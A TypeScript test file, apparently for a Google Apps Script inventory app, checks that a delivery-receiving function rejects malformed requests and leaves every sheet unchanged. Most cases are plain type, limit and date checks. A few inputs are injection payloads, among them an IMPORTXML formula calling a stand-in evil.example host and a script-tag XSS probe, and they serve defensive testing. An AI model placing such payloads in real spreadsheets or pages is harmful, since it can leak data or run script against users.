// receiveDelivery against every kind of bad request google.script.run can carry — wrong types,
// missing and unknown fields, limits, impossible values, codes that only look new, formula-looking
// and HTML text, malformed shapes — through the built bundle: each answered with a sentence at its
// field, and every sheet exactly as it was.
import { callFromClient, createRuntimeWithBundle, type Runtime } from '../../local/runtime';
import type { DeliveryResult } from '../../src/contract/receiving';
import { BASICS, smallWorkbook, type SmallTables } from '../fixtures/small-workbook';
import { everySheet, expectSentence, long, type BadRequest } from './bad-requests';

const TABLES: SmallTables = {
  ...BASICS,
  receipts: [
    { lotNumber: 'LAV-0923-001', received: '2023-09-14', materialCode: 'LAV', supplier: 'Lavender Fields Co.', quantity: 1000, unit: 'ml' },
  ],
  batches: [{ batchId: 'MFG-0001', made: '2023-09-20', sku: 'LSOAP', batchCode: 'LAV-0923-002', quantityMade: 100, unit: 'pcs' }],
  log: [],
};

const LINE = {
  materialCode: 'LAV',
  quantity: '500',
  unit: 'ml',
  supplierLot: 'LF-2309-88',
  cost: '42.50',
  expires: '2099-09-01',
  spec: '',
  condition: 'OK',
  status: 'Available',
  notes: '',
  lotNumber: '',
  lotNumberEdited: false,
};

/** A good delivery with these changes; a line's changes by index. */
function delivery(changes: Record<string, unknown> = {}, lineChanges: Record<string, unknown> = {}): Record<string, unknown> {
  return { supplier: 'Lavender Fields Co.', received: '2023-09-26', lines: [{ ...LINE, ...lineChanges }], ...changes };
}
const ownLot = (lotNumber: string) => delivery({}, { lotNumber, lotNumberEdited: true });
const without = (key: string) => {
  const line: Record<string, unknown> = { ...LINE };
  delete line[key];
  return delivery({ lines: [line] });
};

const CASES: BadRequest[] = [
  // Malformed shapes and wrong types
  { name: 'null', request: null, at: { field: 'form' }, says: /^The delivery must be a set of fields/ },
  { name: 'a string', request: 'LAV 500 ml', at: { field: 'form' }, says: /^The delivery must be a set of fields, not text\.$/ },
  { name: 'a list', request: [delivery()], at: { field: 'form' } },
  { name: 'a number', request: 42, at: { field: 'form' } },
  { name: 'an empty object', request: {}, at: { field: 'supplier' }, says: /^The supplier is missing\.$/ },
  { name: 'supplier as a number', request: delivery({ supplier: 5 }), at: { field: 'supplier' }, says: /must be text, not a number/ },
  { name: 'supplier as null', request: delivery({ supplier: null }), at: { field: 'supplier' } },
  { name: 'supplier as a list', request: delivery({ supplier: ['Coastal Oils'] }), at: { field: 'supplier' } },
  { name: 'received as a number', request: delivery({ received: 20230926 }), at: { field: 'received' } },
  { name: 'received as an object', request: delivery({ received: { day: 26 } }), at: { field: 'received' } },
  { name: 'lines as text', request: delivery({ lines: 'LAV' }), at: { field: 'lines' }, says: /^The list of lines must be a list/ },
  { name: 'lines as an object', request: delivery({ lines: { 0: LINE } }), at: { field: 'lines' } },
  { name: 'a line that is null', request: delivery({ lines: [null] }), at: { field: 'form' }, says: /^Line 1 must be a set of fields/ },
  { name: 'a line that is text', request: delivery({ lines: ['LAV'] }), at: { field: 'form' } },
  { name: 'quantity as a number', request: delivery({}, { quantity: 500 }), at: { line: 0, field: 'quantity' } },
  { name: 'cost as a number', request: delivery({}, { cost: 42.5 }), at: { line: 0, field: 'cost' } },
  {
    name: 'the edited flag as text',
    request: delivery({}, { lotNumberEdited: 'yes' }),
    at: { field: 'form' },
    says: /"edited" flag of line 1/,
  },
  { name: 'expires as null', request: delivery({}, { expires: null }), at: { line: 0, field: 'expires' } },
  { name: 'notes as an object', request: delivery({}, { notes: {} }), at: { line: 0, field: 'notes' } },
  // Missing and unknown fields
  { name: 'no material code', request: without('materialCode'), at: { line: 0, field: 'materialCode' }, says: /is missing/ },
  { name: 'no unit', request: without('unit'), at: { line: 0, field: 'unit' } },
  { name: 'no edited flag', request: without('lotNumberEdited'), at: { field: 'form' } },
  { name: 'no lines', request: { supplier: 'Coastal Oils', received: '2023-09-26' }, at: { field: 'lines' } },
  { name: 'an unknown field', request: delivery({ batchcode: 'X-1' }), at: { field: 'form' }, says: /has no field called "batchcode"/ },
  { name: 'an expiry for the whole delivery', request: delivery({ expiry: '2024-01-01' }), at: { field: 'form' }, says: /"expiry"/ },
  {
    name: 'an unknown field on a line',
    request: delivery({}, { expiry: '2024-01-01' }),
    at: { field: 'form' },
    says: /^Line 1 has no field called "expiry"\.$/,
  },
  { name: 'a lot field on a line', request: delivery({}, { lot: 'LAV-1' }), at: { field: 'form' }, says: /"lot"/ },
  { name: 'an unknown field with a long name', request: delivery({ [long(5000)]: 1 }), at: { field: 'form' }, says: /"x{40}…"/ },
  { name: 'confirmations as text', request: delivery({ confirmed: 'all' }), at: { field: 'form' }, says: /warnings confirmed/ },
  { name: 'confirmations of numbers', request: delivery({ confirmed: [5] }), at: { field: 'form' } },
  { name: 'a blank supplier', request: delivery({ supplier: '  ' }), at: { field: 'supplier' }, says: /^Choose a supplier/ },
  { name: 'a blank received day', request: delivery({ received: '' }), at: { field: 'received' } },
  { name: 'no line at all', request: delivery({ lines: [] }), at: { field: 'lines' }, says: /at least one line/ },
  { name: 'a blank material', request: delivery({}, { materialCode: '' }), at: { line: 0, field: 'materialCode' } },
  { name: 'a blank quantity', request: delivery({}, { quantity: ' ' }), at: { line: 0, field: 'quantity' } },
  { name: 'a blank unit', request: delivery({}, { unit: '' }), at: { line: 0, field: 'unit' } },
  { name: 'a blank own lot number', request: ownLot(' '), at: { line: 0, field: 'lotNumber' } },
  // Limits
  {
    name: '101 lines',
    request: delivery({ lines: Array(101).fill(LINE) }),
    at: { field: 'lines' },
    says: /^A delivery has at most 100 lines/,
  },
  { name: 'a 201-character supplier', request: delivery({ supplier: long(201) }), at: { field: 'supplier' }, says: /at most 200/ },
  { name: 'a 50,001-character supplier', request: delivery({ supplier: long(50001) }), at: { field: 'supplier' }, says: /at most 50,000/ },
  { name: '50,001 characters of notes', request: delivery({}, { notes: long(50001) }), at: { line: 0, field: 'notes' }, says: /50,000/ },
  { name: '50,001 characters of spec', request: delivery({}, { spec: long(50001) }), at: { line: 0, field: 'spec' } },
  { name: 'a 201-character supplier lot', request: delivery({}, { supplierLot: long(201) }), at: { line: 0, field: 'supplierLot' } },
  { name: 'a 201-character lot number', request: ownLot(long(201)), at: { line: 0, field: 'lotNumber' } },
  { name: 'a 10,000-character material', request: delivery({}, { materialCode: long(10000) }), at: { line: 0, field: 'materialCode' } },
  { name: 'a lot number on two lines', request: ownLot('LAV-1\nLAV-2'), at: { line: 0, field: 'lotNumber' }, says: /one line/ },
  { name: 'a lot number with a tab', request: ownLot('LAV\t1'), at: { line: 0, field: 'lotNumber' } },
  { name: 'a supplier on two lines', request: delivery({ supplier: 'Coastal\nOils' }), at: { field: 'supplier' } },
  { name: 'a supplier lot on two lines', request: delivery({}, { supplierLot: 'A\r\nB' }), at: { line: 0, field: 'supplierLot' } },
  { name: '101 confirmations', request: delivery({ confirmed: Array(101).fill('x') }), at: { field: 'form' } },
  { name: 'a 201-character confirmation', request: delivery({ confirmed: [long(201)] }), at: { field: 'form' } },
  { name: 'a shown lot number of 201 characters', request: delivery({}, { lotNumber: long(201) }), at: { line: 0, field: 'lotNumber' } },
  // Impossible values
  { name: 'a negative quantity', request: delivery({}, { quantity: '-5' }), at: { line: 0, field: 'quantity' }, says: /more than 0/ },
  { name: 'a zero quantity', request: delivery({}, { quantity: '0' }), at: { line: 0, field: 'quantity' } },
  {
    name: 'a quantity in words',
    request: delivery({}, { quantity: 'lots' }),
    at: { line: 0, field: 'quantity' },
    says: /"lots" is not a number/,
  },
  { name: 'a quantity too big for a number', request: delivery({}, { quantity: '1e999' }), at: { line: 0, field: 'quantity' } },
  { name: 'a negative cost', request: delivery({}, { cost: '-1' }), at: { line: 0, field: 'cost' } },
  { name: 'a cost in words', request: delivery({}, { cost: 'free' }), at: { line: 0, field: 'cost' } },
  { name: 'a unit of the wrong kind', request: delivery({}, { unit: 'kg' }), at: { line: 0, field: 'unit' }, says: /counted in ml/ },
  { name: 'an unknown unit', request: delivery({}, { unit: 'bushels' }), at: { line: 0, field: 'unit' } },
  { name: 'a day that does not exist', request: delivery({ received: '2023-02-30' }), at: { field: 'received' } },
  { name: 'a received day written another way', request: delivery({ received: 'last Tuesday' }), at: { field: 'received' } },
  {
    name: 'a delivery received after today',
    request: delivery({ received: '2199-01-01' }),
    at: { field: 'received' },
    says: /after today/,
  },
  { name: 'an expiry month 13', request: delivery({}, { expires: '2023-13-01' }), at: { line: 0, field: 'expires' } },
  {
    name: 'an expiry before it arrived',
    request: delivery({}, { expires: '2023-09-01' }),
    at: { line: 0, field: 'expires' },
    says: /before the day received/,
  },
  { name: 'an unknown condition', request: delivery({}, { condition: 'Fine' }), at: { line: 0, field: 'condition' } },
  { name: 'an unknown status', request: delivery({}, { status: 'Sold' }), at: { line: 0, field: 'status' } },
  { name: 'an unknown material', request: delivery({}, { materialCode: 'ROSE' }), at: { line: 0, field: 'materialCode' } },
  // Codes that only look new
  {
    name: 'a taken lot number with a zero-width space',
    request: ownLot('LAV-0923-001\u200b'),
    at: { line: 0, field: 'lotNumber' },
    says: /already used/,
  },
  {
    name: 'a taken lot number with a byte-order mark',
    request: ownLot('\ufeffLAV-0923-001'),
    at: { line: 0, field: 'lotNumber' },
    says: /already used/,
  },
  { name: 'a taken lot number in other case', request: ownLot('lav-0923-001'), at: { line: 0, field: 'lotNumber' }, says: /already used/ },
  {
    name: 'a taken lot number in full-width letters',
    request: ownLot('ＬＡＶ-0923-001'),
    at: { line: 0, field: 'lotNumber' },
    says: /already used/,
  },
  {
    name: 'a taken lot number with a non-breaking hyphen',
    request: ownLot('LAV\u20110923\u2011001'),
    at: { line: 0, field: 'lotNumber' },
    says: /already used/,
  },
  { name: 'a batch code as a lot number', request: ownLot('LAV-0923-002'), at: { line: 0, field: 'lotNumber' }, says: /already used/ },
  {
    name: 'the same lot number twice',
    request: delivery({ lines: [1, 2].map(() => ({ ...LINE, lotNumber: 'NEW-1', lotNumberEdited: true })) }),
    at: { line: 1, field: 'lotNumber' },
  },
  {
    name: 'a new lot number with an invisible character',
    request: ownLot('NEW\u200b-1'),
    at: { line: 0, field: 'lotNumber' },
    says: /U\+200B/,
  },
  // Formula-looking and HTML text where a code or value must be read
  {
    name: 'a formula as the material',
    request: delivery({}, { materialCode: '=IMPORTXML("http://evil.example","//a")' }),
    at: { line: 0, field: 'materialCode' },
  },
  { name: 'HTML as the unit', request: delivery({}, { unit: '<script>alert(1)</script>' }), at: { line: 0, field: 'unit' } },
  { name: 'a formula as the condition', request: delivery({}, { condition: '=1+1' }), at: { line: 0, field: 'condition' } },
  { name: 'HTML as the status', request: delivery({}, { status: '<b>Available</b>' }), at: { line: 0, field: 'status' } },
  { name: 'a formula as the received day', request: delivery({ received: '=TODAY()' }), at: { field: 'received' } },
  { name: 'a formula as the quantity', request: delivery({}, { quantity: '=2*250' }), at: { line: 0, field: 'quantity' } },
  { name: 'a formula as the expiry', request: delivery({}, { expires: '=DATE(2025,1,1)' }), at: { line: 0, field: 'expires' } },
  { name: 'a formula as the cost', request: delivery({}, { cost: '=A1' }), at: { line: 0, field: 'cost' } },
];

let runtime: Runtime;
let bundle: ReturnType<typeof createRuntimeWithBundle>['bundle'];
let original: ReturnType<typeof everySheet>;

beforeAll(() => {
  ({ runtime, bundle } = createRuntimeWithBundle());
  for (const [name, rows] of Object.entries(smallWorkbook(TABLES))) runtime.spreadsheet.insertSheet(name).loadRowsForTest(rows);
  bundle.open('LIMITED');
  runtime.setAuthMode('FULL');
  original = everySheet(runtime);
});

test('there are more than 60 distinct bad requests', () => {
  expect(new Set(CASES.map((each) => JSON.stringify(each.request))).size).toBeGreaterThan(60);
});

test.each(CASES)('$name: a sentence at its field, and every sheet as it was', async ({ request, at, says }) => {
  const result = (await callFromClient(bundle, 'receiveDelivery', [request])) as DeliveryResult;
  if (result.ok) throw new Error(`saved: ${JSON.stringify(result.lots)}`);
  expect(result.problems.length).toBeGreaterThan(0);
  for (const problem of result.problems) expectSentence(problem.message);
  const here = result.problems.filter((problem) => problem.field === at.field && problem.line === at.line);
  expect(here).not.toEqual([]);
  if (says) expect(here.map((problem) => problem.message)).toContainEqual(expect.stringMatching(says));
  expect(everySheet(runtime)).toEqual(original);
});

test('a lot already expired on arrival is not saved unasked: the warning at its field, every sheet as it was', async () => {
  const result = (await callFromClient(bundle, 'receiveDelivery', [delivery({}, { expires: '2023-09-26' })])) as DeliveryResult;
  expect(result).toEqual({ ok: false, problems: [], toConfirm: [expect.objectContaining({ line: 0, field: 'expires' })] });
  if (!result.ok) expectSentence(result.toConfirm?.[0]?.message ?? '');
  expect(everySheet(runtime)).toEqual(original);
});
